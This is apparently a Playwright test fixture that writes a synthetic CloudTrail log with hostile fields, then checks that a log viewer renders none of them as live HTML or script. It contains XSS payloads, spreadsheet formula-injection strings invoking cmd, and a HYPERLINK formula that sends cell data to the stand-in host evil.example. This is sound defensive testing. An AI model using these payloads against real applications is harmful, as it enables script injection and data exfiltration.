/**
 * A CloudTrail file whose attacker-controlled fields carry HTML/JS payloads
 * and spreadsheet formulas, and the probes that prove none of them ran or
 * became an element. The file is generated per run (never checked in).
 */
import { writeFileSync } from "node:fs";
import type { Page } from "@playwright/test";
import { expect } from "./fixtures";

export const P = {
  img: `<img src=x onerror="window.__pwned=1">`,
  script: `<script>window.__pwned=1</script>`,
  svg: `"><svg onload="window.__pwned=1">`,
  js: `javascript:window.__pwned=1`,
  iframe: `<iframe srcdoc="<script>parent.__pwned=1</script>">`,
  formula: `=HYPERLINK("http://evil.example/?d="&A1,"open")`,
  plus: `+cmd|' /C calc'!A0`,
  minus: `-2+3+cmd|' /C calc'!A0`,
  at: `@SUM(1+1)*cmd|' /C calc'!A0`,
} as const;

/** The hostile principal (an IAM user name), bucket and role session. */
export const HOSTILE_USER = P.img;
export const HOSTILE_BUCKET = `b${P.svg}`;
export const HOSTILE_SESSION = P.iframe;

const ACCOUNT = "123456789012";
let seq = 0;
const id = () => `00000000-0000-4000-8000-${String(++seq).padStart(12, "0")}`;

function user(name: string) {
  return { type: "IAMUser", principalId: "AIDAHOSTILE", arn: `arn:aws:iam::${ACCOUNT}:user/${name}`, accountId: ACCOUNT, accessKeyId: "AKIAHOSTILE", userName: name };
}

function role(session: string) {
  return {
    type: "AssumedRole",
    principalId: `AROAHOSTILE:${session}`,
    arn: `arn:aws:sts::${ACCOUNT}:assumed-role/${P.script}/${session}`,
    accountId: ACCOUNT,
    sessionContext: { sessionIssuer: { type: "Role", principalId: "AROAHOSTILE", arn: `arn:aws:iam::${ACCOUNT}:role/${P.script}`, accountId: ACCOUNT, userName: P.script } },
  };
}

function record(time: string, fields: Record<string, unknown>) {
  return {
    eventVersion: "1.09",
    userIdentity: user(HOSTILE_USER),
    eventTime: time,
    eventSource: "s3.amazonaws.com",
    eventName: "GetObject",
    awsRegion: "us-east-1",
    sourceIPAddress: P.js,
    userAgent: P.script,
    requestParameters: null,
    responseElements: null,
    eventID: id(),
    eventType: "AwsApiCall",
    recipientAccountId: ACCOUNT,
    ...fields,
  };
}

/** The records: night-time downloads from a hostile bucket, IAM calls with hostile targets, failures with hostile messages. */
export function hostileRecords(): unknown[] {
  seq = 0;
  const out: unknown[] = [];
  const keys = [P.script, P.formula, P.plus, P.minus, P.at, `reports/${P.img}.xlsx`];
  for (let night = 5; night <= 7; night++) {
    for (let i = 0; i < 40; i++) {
      const t = new Date(Date.UTC(2026, 0, night, 1 + (i % 3), i)).toISOString().replace(".000", "");
      out.push(
        record(t, {
          userAgent: i % 2 ? P.script : P.formula,
          requestParameters: { bucketName: HOSTILE_BUCKET, key: keys[i % keys.length], [P.img]: P.script, "javascript:alert(1)": P.js },
          additionalEventData: { bytesTransferredOut: 5_000_000 + i },
          readOnly: true,
          eventCategory: "Data",
        }),
      );
    }
  }
  const iam = (t: string, eventName: string, requestParameters: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
    record(t, { eventSource: "iam.amazonaws.com", eventName, requestParameters, readOnly: false, ...extra });
  out.push(iam("2026-01-06T02:10:00Z", "CreateUser", { userName: P.svg }));
  out.push(iam("2026-01-06T02:11:00Z", "AttachUserPolicy", { userName: P.svg, policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" }));
  out.push(iam("2026-01-06T02:12:00Z", "CreateAccessKey", { userName: P.svg }));
  out.push(iam("2026-01-06T02:13:00Z", "PutUserPolicy", { userName: P.svg, policyName: P.img, policyDocument: `{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*","Sid":"${P.script.replace(/"/g, "")}"}]}` }));
  for (let i = 0; i < 12; i++) {
    out.push(
      record(`2026-01-06T03:${String(20 + i).padStart(2, "0")}:00Z`, {
        userIdentity: role(HOSTILE_SESSION),
        eventName: i % 2 ? P.img : "ListBuckets",
        errorCode: "AccessDenied",
        errorMessage: `${P.svg} ${P.script}`,
        userAgent: P.at,
        [P.svg]: "hostile top-level key",
      }),
    );
  }
  return out;
}

/** Writes the records as JSON lines to `file`. */
export function writeHostileFile(file: string): string {
  writeFileSync(file, hostileRecords().map((r) => JSON.stringify(r)).join("\n") + "\n");
  return file;
}

/**
 * Records, from the first byte of every page, any element a payload would
 * create (img[src=x], svg/iframe, scripts mentioning __pwned, on* attributes,
 * javascript: links) and any CSP violation.
 */
export async function installInjectionProbe(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const w = window as unknown as { __injected: string[]; __csp: string[] };
    w.__injected = [];
    w.__csp = [];
    document.addEventListener("securitypolicyviolation", (e) => w.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
    const check = (el: Element) => {
      const tag = el.tagName.toLowerCase();
      const attrs = [...el.attributes];
      const bad =
        (tag === "img" && el.getAttribute("src") === "x") ||
        tag === "iframe" ||
        (tag === "svg" && el.hasAttribute("onload")) ||
        (tag === "script" && (el.textContent ?? "").includes("__pwned")) ||
        attrs.some((a) => a.name.startsWith("on")) ||
        attrs.some((a) => (a.name === "href" || a.name === "src" || a.name === "action") && /^\s*javascript:/i.test(a.value));
      if (bad) w.__injected.push(el.outerHTML.slice(0, 200));
    };
    new MutationObserver((muts) => {
      for (const m of muts) {
        if (m.type === "attributes" && m.target instanceof Element) check(m.target);
        for (const n of m.addedNodes) {
          if (!(n instanceof Element)) continue;
          check(n);
          for (const el of n.querySelectorAll("*")) check(el);
        }
      }
    }).observe(document, { childList: true, subtree: true, attributes: true });
  });
}

/** No payload ran, no element was injected (now or since load), no CSP violation happened. */
export async function expectNoInjection(page: Page, where: string): Promise<void> {
  const state = await page.evaluate(() => {
    const w = window as unknown as { __pwned?: unknown; __injected: string[]; __csp: string[] };
    const all = [...document.querySelectorAll("*")];
    return {
      pwned: w.__pwned ?? null,
      injected: w.__injected,
      csp: w.__csp,
      imgX: document.querySelectorAll('img[src="x"]').length,
      svgOnload: document.querySelectorAll("svg[onload]").length,
      iframes: document.querySelectorAll("iframe").length,
      onAttrs: all.filter((el) => [...el.attributes].some((a) => a.name.startsWith("on"))).map((el) => el.tagName),
      jsLinks: [...document.querySelectorAll("a[href]")].filter((a) => /^\s*javascript:/i.test(a.getAttribute("href") ?? "")).length,
    };
  });
  expect(state, `after ${where}`).toEqual({ pwned: null, injected: [], csp: [], imgX: 0, svgOnload: 0, iframes: 0, onAttrs: [], jsLinks: 0 });
}
